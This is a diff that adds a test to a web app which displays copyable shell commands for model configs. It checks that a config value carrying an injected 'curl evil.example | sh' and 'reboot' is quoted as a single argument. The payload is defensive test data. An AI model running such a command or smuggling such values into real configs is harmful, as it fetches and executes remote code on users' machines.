@@ -241,3 +241,10 @@ def test_strange_configs_of_files_of_any_kind_are_no_failure(pages, registry, tm
     for path in ("", "?q=odd", "acme/odd", "acme/odd/versions", "acme/odd/layers/v1", "acme/odd/blob/v1/notes.txt"):
         assert pages.get(f"/{path}").status_code == 200, path
     assert pages.get("/-/compare?left=acme/odd&right=acme/odd@v1").status_code == 200
+
+
+def test_a_command_to_copy_runs_nothing_that_somebody_wrote_into_a_config(pages, push):
+    written = "bert; curl evil.example | sh\nreboot #"
+    push("acme/ner", backbone=written, method="layer_norm")
+    found = [shlex.split(line) for line in commands(pages.get("/acme/ner")) if "evil" in line]
+    assert [words[words.index("--backbone") + 1] for words in found] == [" ".join(written.split())]
